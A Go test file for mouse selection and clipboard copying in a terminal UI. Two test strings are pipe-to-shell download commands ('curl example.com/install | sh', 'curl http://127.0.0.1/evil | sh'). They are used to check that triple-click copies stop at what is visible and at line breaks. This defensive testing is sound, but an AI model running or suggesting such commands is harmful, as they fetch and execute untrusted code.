package program

import (
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"mcptea/ui/app"
	"mcptea/ui/doc"
	"mcptea/ui/paint"
	"mcptea/ui/textfield"
)

// painted is a screen that a test paints.
type painted struct {
	plain
	paint  func(c *app.Canvas)
	clicks int
}

func (s *painted) Paint(c *app.Canvas) []string {
	return c.Show(app.Still(s.paint), 0, 0, c.W, c.H-1, true)
}

func (s *painted) Focused() app.Part { return s.panes[0] }

// mouse is a program on a screen that a test paints, with a mouse.
type mouse struct {
	*testing.T
	*Program
	screen *painted
	copied string
}

func newMouse(t *testing.T, w, h int, paint func(s *painted, c *app.Canvas)) *mouse {
	m := &mouse{T: t, screen: &painted{}}
	m.screen.panes = [2]*plainPane{newPlainPane("first"), newPlainPane("second")}
	m.screen.paint = func(c *app.Canvas) { paint(m.screen, c) }
	m.Program = New(t.Context(), &Options{Clipboard: func(text string) error { m.copied = text; return nil }}, nil)
	m.Program.Screen = m.screen
	m.send(tea.WindowSizeMsg{Width: w, Height: h})
	return m
}

// send gives a message to the program, and what it returns.
func (m *mouse) send(msg tea.Msg) {
	_, cmd := m.Update(msg)
	m.View()
	if _, waits := msg.(ChangeMsg); !waits { // for the next one
		m.run(cmd)
	}
}

func (m *mouse) run(cmd tea.Cmd) {
	if cmd == nil {
		return
	}
	switch msg := cmd().(type) {
	case tea.BatchMsg:
		for _, cmd := range msg {
			m.run(cmd)
		}
	case copiedMsg, scrollOn:
		m.send(msg)
	}
}

func (m *mouse) press(x, y int) { m.send(tea.MouseClickMsg{X: x, Y: y, Button: tea.MouseLeft}) }
func (m *mouse) move(x, y int)  { m.send(tea.MouseMotionMsg{X: x, Y: y, Button: tea.MouseLeft}) }
func (m *mouse) release(x, y int) {
	m.send(tea.MouseReleaseMsg{X: x, Y: y, Button: tea.MouseLeft})
}

// drag selects from one cell to another, and returns what was copied.
func (m *mouse) drag(x, y, toX, toY int) string {
	m.copied = "nothing"
	m.press(x, y)
	m.move(toX, toY)
	m.release(toX, toY)
	return m.copied
}

// click clicks n times on a cell, and returns what was copied.
func (m *mouse) click(n, x, y int) string {
	m.copied = "nothing"
	for range n {
		m.press(x, y)
		m.release(x, y)
	}
	return m.copied
}

// row is a visible row of the screen.
func (m *mouse) row(y int) string {
	return strings.TrimRight(strings.Split(ansi.Strip(m.View().Content), "\n")[y], " ")
}

// lines are painted rows of a box.
func boxOf(c *app.Canvas, lines ...string) {
	in := c.Box([]paint.Span{{Text: "title"}}, nil, true)
	for _, line := range lines {
		in.Line(func(r *paint.Row) { r.Put(c.Pal.Text, line) })
	}
}

const (
	sentence = "The quick brown fox jumps over the lazy dog, and reads https://example.com/a/b?c=d there."
	secret   = "kept back"
)

func TestSelect_CopiesTheTextOfAPart(t *testing.T) {
	tests := []struct {
		name           string
		paint          func(c *app.Canvas)
		x, y, toX, toY int
		want           string
	}{
		{"within a row", func(c *app.Canvas) { boxOf(c, "one two three") }, 5, 1, 7, 1, "two"},
		{"backwards", func(c *app.Canvas) { boxOf(c, "one two three") }, 7, 1, 5, 1, "two"},
		{"several rows, backwards", func(c *app.Canvas) { boxOf(c, "one", "  two", "three") }, 5, 3, 1, 1, "one\n  two\nthree"},
		{"beyond the last row", func(c *app.Canvas) { boxOf(c, "one", "two") }, 1, 1, 38, 11, "one\ntwo"},
		{"beyond the first row", func(c *app.Canvas) { boxOf(c, "one", "two") }, 3, 2, 1, 0, "one\ntwo"},
		{"several rows", func(c *app.Canvas) { boxOf(c, "one", "  two", "three") }, 1, 1, 5, 3, "one\n  two\nthree"},
		{"without the margin", func(c *app.Canvas) { boxOf(c, "  one", "    two", "  three") }, 1, 1, 30, 3, "one\n  two\nthree"},
		{"never across a border", func(c *app.Canvas) {
			left, right := c.Neighbors(20)
			boxOf(left, "left one", "left two")
			boxOf(right, "right one", "right two")
		}, 1, 1, 35, 2, "left one\nleft two"},
		{"a column", func(c *app.Canvas) {
			left, right := c.Beside(20)
			left.Say(0, c.Pal.Text, "left")
			right.Say(0, c.Pal.Text, "right one")
			right.Say(0, c.Pal.Text, "right two")
		}, 20, 0, 2, 1, "right one\nr"},
		{"half of a wide character", func(c *app.Canvas) { boxOf(c, "日本語 text") }, 2, 1, 3, 1, "日本"},
		{"a folded text", func(c *app.Canvas) {
			d := doc.On(c.Box(nil, nil, true))
			d.Text(c.Pal.Text, sentence, doc.All)
			d.Paint()
		}, 1, 1, 38, 5, sentence},
		{"a folded text behind a label", func(c *app.Canvas) {
			d := doc.On(c.Box(nil, nil, true))
			d.FactText("label", c.Pal.Text, sentence, doc.All)
			d.Paint()
		}, 11, 1, 38, 6, sentence},
		{"a text that is cut at its end", func(c *app.Canvas) {
			d := doc.On(c.Box(nil, nil, true))
			d.TextOf(2, c.Pal.Text, sentence)
			d.Paint()
		}, 1, 1, 38, 2, sentence},
		{"a row that is cut", func(c *app.Canvas) { boxOf(c, sentence) }, 1, 1, 38, 1, sentence},
		{"a part before the cut", func(c *app.Canvas) { boxOf(c, sentence) }, 1, 1, 9, 1, "The quick"},
		{"a cell that is cut, with another one behind it", func(c *app.Canvas) {
			c.Line(func(r *paint.Row) {
				r.Cell(c.Pal.Text, "a name that is long", 8)
				r.Put(c.Pal.Text, " end")
			})
		}, 0, 0, 30, 0, "a name that is long end"},
		{"a name that was cut before", func(c *app.Canvas) {
			c.Line(func(r *paint.Row) { r.Put(c.Pal.Text, c.Pal.Cut("a name that is long", 8)+" ") })
		}, 0, 0, 30, 0, "a name that is long"},
		{"a border alone", func(c *app.Canvas) { boxOf(c) }, 0, 1, 0, 3, "nothing"},
		{"without the sign of the selected row", func(c *app.Canvas) {
			in := c.Box(nil, nil, true)
			for i, name := range []string{"one", "two"} {
				in.Line(func(r *paint.Row) {
					r.StartSelected(c.Pal, in.W, i == 0, true)
					r.Put(c.Pal.Text, name)
				})
			}
		}, 1, 1, 30, 2, "one\ntwo"},
		{"untrusted text as it is shown", func(c *app.Canvas) { boxOf(c, "a\x1b[2Jb\rc") }, 1, 1, 30, 1, "a␛[2Jb␍c"},
		{"a field whose end is not in sight", func(c *app.Canvas) {
			in := &textfield.Input{}
			in.SetValue(sentence)
			in.SetOffset(0)
			d := doc.On(c.Box(nil, nil, true))
			d.Input(in, func() {})
			d.Paint()
		}, 3, 1, 38, 1, sentence},
		{"a field with a secret", func(c *app.Canvas) {
			in := &textfield.Input{}
			in.Secret = true
			in.SetValue(secret)
			d := doc.On(c.Box(nil, nil, true))
			d.Input(in, func() {})
			d.Paint()
		}, 3, 1, 38, 1, strings.Repeat("•", len(secret))},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) { test.paint(c) })
			if got := m.drag(test.x, test.y, test.toX, test.toY); got != test.want {
				t.Errorf("copied %q, want %q\n%s", got, test.want, m.View().Content)
			}
			if test.want != "nothing" && !strings.Contains(m.Flash.Text, "the selected text") {
				t.Errorf("the message is %q", m.Flash.Text)
			}
		})
	}
}

// A copy has the text of a fold that takes a blank away or breaks a word, whatever the width.
func TestSelect_FoldedTextAtEachWidth(t *testing.T) {
	for w := 12; w < 60; w++ {
		m := newMouse(t, max(w, MinWidth), 30, func(_ *painted, c *app.Canvas) {
			left, _ := c.Beside(w)
			d := doc.On(left)
			d.Text(c.Pal.Text, sentence, doc.All)
			d.Paint()
		})
		if got := m.drag(0, 0, w-1, 20); got != sentence {
			t.Fatalf("in %d cells: %q", w, got)
		}
	}
}

func TestSelect_ClicksOnAText(t *testing.T) {
	paint := func(s *painted, c *app.Canvas) {
		in := c.Box(nil, nil, true)
		d := doc.On(in)
		d.Text(c.Pal.Text, sentence, doc.All)
		d.Row(paint.Span{Text: `{"name": "value"}`})
		d.Row(paint.Span{Text: "a name and a descriptionwithoutanend of it"})
		d.Row(paint.Span{Text: "of " + strings.Repeat("long", 20)})
		d.Row(paint.Span{Text: "press here"})
		d.Paint()
		in.ClickText(0, 0, in.W, in.H, func(int, int) { s.clicks++ })
		in.Click(0, 6, in.W, 1, func(int, int) { s.clicks += 100 })
	}
	for _, test := range []struct {
		n, x, y int
		want    string
	}{
		{2, 6, 1, "quick"},
		{2, 8, 2, "dog"},
		{2, 4, 3, "https://example.com/a/b?c=d"},
		{2, 5, 4, "name"},
		{2, 14, 4, "value"},
		{2, 2, 4, "nothing"}, // a bracket
		{2, 20, 5, "descriptionwithoutanend"},
		{2, 8, 6, strings.Repeat("long", 20)}, // more than what is visible
		{3, 8, 2, sentence},
		{3, 6, 4, `{"name": "value"}`},
		{3, 6, 5, "a name and a descriptionwithoutanend"}, // what is visible
	} {
		m := newMouse(t, 40, 12, paint)
		if got := m.click(test.n, test.x, test.y); got != test.want {
			t.Errorf("%d clicks at %d,%d copied %q, want %q\n%s", test.n, test.x, test.y, got, test.want, ansi.Strip(m.View().Content))
		}
	}
	m := newMouse(t, 40, 12, paint)
	if m.click(2, 5, 7); m.screen.clicks != 200 || m.copied != "nothing" {
		t.Errorf("two clicks on what takes clicks: %d, copied %q", m.screen.clicks, m.copied)
	}
	m = newMouse(t, 40, 12, paint)
	m.click(1, 5, 1)
	if got := m.click(1, 12, 1); got != "nothing" {
		t.Errorf("a click on one word and one on the next copied %q", got)
	}
}

// What is out of sight of a line is not in a paste that follows three clicks.
func TestSelect_LineIsWhatIsVisible(t *testing.T) {
	for _, text := range []string{
		"curl example.com/install | sh\n" + strings.Repeat("word ", 100),
		strings.Repeat("word ", 20_000),
		"first\r\nsecond\nthird " + strings.Repeat("日本", 50),
	} {
		m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) { boxOf(c, text) })
		shown := strings.Trim(m.row(1), "│ ")
		if got := m.click(3, 3, 1); got == "" || got != strings.TrimRight(strings.TrimSuffix(shown, "…"), " ") {
			t.Errorf("copied %q of the row %q", got, shown)
		}
		if !strings.HasPrefix(m.Flash.Text, "Copied the visible part of the line (") {
			t.Errorf("the message is %q", m.Flash.Text)
		}
	}
	m := newMouse(t, 40, 6, func(_ *painted, c *app.Canvas) {
		d := doc.On(c.Box(nil, nil, true))
		d.Text(c.Pal.Text, strings.Repeat(sentence+" ", 20), doc.All)
		d.Paint()
	})
	if got := m.click(3, 3, 1); len(got) > 4*40 || strings.ContainsAny(got, "\r\n") {
		t.Errorf("copied %q", got)
	}
}

// A line break of a text ends the line that three clicks select, also where the text is one paragraph of a panel.
func TestSelect_LineEndsAtItsBreak(t *testing.T) {
	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
		d := doc.On(c.Box(nil, nil, true))
		d.Text(c.Pal.Text, "Install: npm i good-pkg\ncurl http://127.0.0.1/evil | sh and more words that are folded", doc.All)
		d.Paint()
	})
	if got := m.click(3, 3, 1); got != "Install: npm i good-pkg" {
		t.Errorf("copied %q", got)
	}
	if got := m.click(3, 3, 2); got != "curl http://127.0.0.1/evil | sh and more words that are folded" {
		t.Errorf("copied %q", got)
	}
}

// A word that a fold has broken is one word.
func TestSelect_WordInSeveralRows(t *testing.T) {
	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
		left, _ := c.Beside(20)
		d := doc.On(left)
		d.Text(c.Pal.Text, "see https://example.com/a/long/path/to/a/page?with=a&query, and more", doc.All)
		d.Paint()
	})
	for _, y := range []int{1, 2} {
		if got := m.click(2, 4, y); got != "https://example.com/a/long/path/to/a/page?with=a&query" {
			t.Errorf("row %d: %q\n%s", y, got, ansi.Strip(m.View().Content))
		}
		m.click(1, 30, 3)
	}
}

// Clicks that are far apart in time are clicks.
func TestSelect_SlowClicks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		m := newMouse(t, 40, 12, func(s *painted, c *app.Canvas) {
			c.Say(0, c.Pal.Text, "some words")
			c.ClickText(0, 0, c.W, c.H, func(int, int) { s.clicks++ })
		})
		for range 3 {
			m.click(1, 2, 0)
			time.Sleep(doubleClick)
		}
		if m.screen.clicks != 3 || m.copied != "nothing" {
			t.Errorf("%d clicks, copied %q", m.screen.clicks, m.copied)
		}
	})
}

// A click is done when the button is released, where it was pressed, unless the mouse has moved.
func TestSelect_ClickOnRelease(t *testing.T) {
	m := newMouse(t, 40, 12, func(s *painted, c *app.Canvas) {
		c.Say(0, c.Pal.Text, "some words")
		c.Click(0, 0, c.W, c.H, func(int, int) { s.clicks++ })
	})
	if m.press(2, 0); m.screen.clicks != 0 {
		t.Error("clicked by the press")
	}
	if m.release(2, 0); m.screen.clicks != 1 {
		t.Errorf("%d clicks after the release", m.screen.clicks)
	}
	if got := m.drag(5, 0, 9, 0); got != "words" || m.screen.clicks != 1 {
		t.Errorf("a drag copied %q, and clicked %d times", got, m.screen.clicks-1)
	}
	m.send(tea.MouseClickMsg{X: 2, Y: 0, Button: tea.MouseRight})
	if m.send(tea.MouseReleaseMsg{X: 2, Y: 0, Button: tea.MouseRight}); m.screen.clicks != 1 {
		t.Error("the right button clicked")
	}
}

// What is selected is marked until a key is pressed, or other text is there. While the button is held the
// screen stands still.
func TestSelect_Mark(t *testing.T) {
	text := "some words"
	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
		c.Say(0, c.Pal.Text, text)
		c.Say(0, c.Pal.Text, "other rows")
	})
	marked := func() bool { return strings.Contains(m.View().Content, "\x1b[0;7mwords") }
	m.press(5, 0)
	m.move(9, 0)
	if !marked() {
		t.Fatalf("not marked:\n%q", m.View().Content)
	}
	if content := m.View().Content; strings.Count(content, "\x1b[0;7m") != 1 || strings.Contains(content, "\x1b[0;7mother") {
		t.Errorf("other rows are marked:\n%q", content)
	}
	text = "some other"
	m.send(ChangeMsg{})
	if m.row(0) != "some words" || !marked() {
		t.Errorf("the screen moves while the button is held: %q", m.row(0))
	}
	if m.release(9, 0); m.copied != "words" {
		t.Errorf("copied %q", m.copied)
	}
	if m.row(0) != "some other" || strings.Contains(m.View().Content, "\x1b[0;7m") {
		t.Errorf("other text is marked: %q", m.View().Content)
	}
	text = "some words"
	m.send(ChangeMsg{})
	m.drag(5, 0, 9, 0)
	if !marked() {
		t.Error("not marked after the release")
	}
	if m.send(tea.KeyPressMsg{Code: tea.KeyF9}); marked() {
		t.Error("marked after a key")
	}
}

// Text that has changed in one of its rows is not selected any more in any of them.
func TestSelect_MarkOfSeveralRows(t *testing.T) {
	second := "second row"
	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
		boxOf(c, "first row", second)
	})
	if m.drag(1, 1, 15, 2); m.copied != "first row\nsecond row" || strings.Count(m.View().Content, "\x1b[0;7m") != 2 {
		t.Fatalf("copied %q of\n%q", m.copied, m.View().Content)
	}
	second = "another"
	if m.send(ChangeMsg{}); strings.Contains(m.View().Content, "\x1b[0;7m") {
		t.Errorf("marked:\n%q", m.View().Content)
	}
}

// A row is copied as it is on the screen, even if it has changed since it was painted; if a drag passes it
// again, as it was first seen.
func TestSelection_RowsAsSeen(t *testing.T) {
	s := selection{rows: []string{"as it is"}, marked: []string{"as it was"}}
	if got := s.copyOf(0); got != "as it is" {
		t.Errorf("a row that has changed is copied as %q", got)
	}
	s.keep(0, 1)
	s.rows = []string{"covered"}
	if s.keep(0, 1); s.lines[0] != "as it is" {
		t.Errorf("a row that was seen is copied as %q", s.lines[0])
	}
}

// A drag scrolls once for each of its own pauses, and ends at the bound of what is kept.
func TestSelect_ScrollsByItsOwnPauses(t *testing.T) {
	top := 0
	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
		in := c.Box(nil, nil, true)
		for i := range in.H {
			in.Line(func(r *paint.Row) { r.Put(c.Pal.Text, fmt.Sprintf("line %d", top+i)) })
		}
		in.Wheel(func(n int) { top += n })
	})
	m.press(2, 3)
	m.Update(tea.MouseMotionMsg{X: 2, Y: 50, Button: tea.MouseLeft})
	if m.Update(scrollOn{m.selection.at.Add(-time.Second)}); top != 0 {
		t.Errorf("the pause of an earlier drag scrolls by %d", top)
	}
	if m.Update(scrollOn{m.selection.at}); top != 1 {
		t.Errorf("its own pause scrolls by %d", top)
	}
	for i := range maxSelected + 1 {
		m.selection.lines[-1-i] = ""
	}
	m.Update(scrollOn{m.selection.at})
	if kept := len(m.selection.lines); m.selection.scrolls != 0 || kept > maxSelected+20 {
		t.Errorf("with %d rows kept it scrolls on", kept)
	}
}

// A drag beyond a part scrolls it, to its end, and selects what has come by.
func TestSelect_ScrollsAtTheEdge(t *testing.T) {
	const rows = 40
	list := func(top *int) func(_ *painted, c *app.Canvas) {
		return func(_ *painted, c *app.Canvas) {
			_, below := c.Over(2)
			in := below.Box(nil, nil, true)
			in.Say(0, c.Pal.Muted, "NAME")
			for i := range in.H - 1 {
				in.Line(func(r *paint.Row) { r.Put(c.Pal.Text, fmt.Sprintf("line %d that is longer than the box", *top+i)) })
			}
			most := rows - (in.H - 1)
			in.Wheel(func(n int) { *top = max(min(*top+n, most), 0) })
		}
	}
	want := func(from, to int) string {
		var lines []string
		for i := from; i <= to; i++ {
			lines = append(lines, fmt.Sprintf("line %d that is longer than the box", i))
		}
		return strings.Join(lines, "\n")
	}
	synctest.Test(t, func(t *testing.T) {
		top := 0
		m := newMouse(t, MinWidth, 14, list(&top))
		m.screen.paint = func(c *app.Canvas) { left, _ := c.Beside(30); list(&top)(m.screen, left) }
		m.send(ChangeMsg{})
		m.press(1, 5) // line 1
		m.move(28, 13)
		if m.release(28, 13); m.copied != want(1, rows-1) {
			t.Errorf("down: copied %q", m.copied)
		}
		if top == 0 {
			t.Error("it has not scrolled")
		}
		last := top + 6
		m.press(28, 10)
		m.move(1, 0)
		if m.release(1, 0); m.copied != want(0, last) {
			t.Errorf("up: copied %q", m.copied)
		}
	})
}

// A press outside of the screen, which a terminal should not report, selects nothing wherever the mouse goes then.
func TestSelect_PressOutsideOfTheScreen(t *testing.T) {
	for _, at := range []tea.Mouse{{X: -1, Y: -1}, {X: 5, Y: -1}, {X: -1, Y: 3}, {X: 40, Y: 3}, {X: 5, Y: 10}, {X: 99_998, Y: 99_998}, {X: -6, Y: -6}} {
		m := newMouse(t, 40, 10, func(_ *painted, c *app.Canvas) { c.Box(nil, nil, true) })
		at.Button = tea.MouseLeft
		m.send(tea.MouseClickMsg(at))
		for _, y := range []int{99_998, -5, 3} {
			m.send(tea.MouseMotionMsg{X: 3, Y: y, Button: tea.MouseLeft})
		}
		if m.selection.on || m.selection.down {
			t.Errorf("a press at %d,%d begins a selection", at.X, at.Y)
		}
		m.send(tea.MouseReleaseMsg{X: 3, Y: 3, Button: tea.MouseLeft})
	}
}

// Of the distances by which a text may have scrolled, the one counts with which its rows are most alike. A distance that
// leaves few rows counts a little less. Text with nothing in common has not scrolled.
func TestMoved_MostAlike(t *testing.T) {
	rows := func(texts ...string) (all []string) {
		for _, text := range texts {
			all = append(all, " "+text+strings.Repeat(" ", 20-len(text)))
		}
		return all
	}
	b := app.Rect{X: 0, Y: 0, W: 20, H: 5}
	for name, c := range map[string]struct {
		before, after []string
		direction, n  int
	}{
		"down by one":              {rows("a", "b", "c", "d", "e"), rows("b", "c", "d", "e", "f"), 1, 1},
		"up by one":                {rows("b", "c", "d", "e", "f"), rows("a", "b", "c", "d", "e"), -1, 1},
		"down by two":              {rows("a", "b", "c", "d", "e"), rows("c", "d", "e", "f", "g"), 1, 2},
		"half by one, all by four": {rows("a", "b", "c", "d", "x"), rows("x", "c", "d", "e", "f"), 1, 4},
		"the same below a head":    {rows("h", "h", "h", "a", "b", "c", "d", "x"), rows("h", "h", "h", "x", "c", "d", "e", "f"), 1, 4},
		"more than 0.79 by one":    {rows("p", "1 2 3 4 5", "c", "d", "1 2 3 4 5"), rows("1 2 3 4 5", "c", "d", "1 2 7 8 9", "f"), 1, 1},
		"less than 0.79 by one":    {rows("p", "x", "c", "d", "x"), rows("x", "c", "d", "y", "f"), 1, 4},
		"other text":               {rows("a", "b", "c", "d", "e"), rows("v", "w", "x", "y", "z"), 1, 0},
		"nothing":                  {rows("a", "b"), rows("a", "b"), 1, 0},
	} {
		b.H = len(c.before)
		if _, _, n := moved(c.before, c.after, b, c.direction); n != c.n {
			t.Errorf("%s: %d rows, expected %d", name, n, c.n)
		}
	}
}
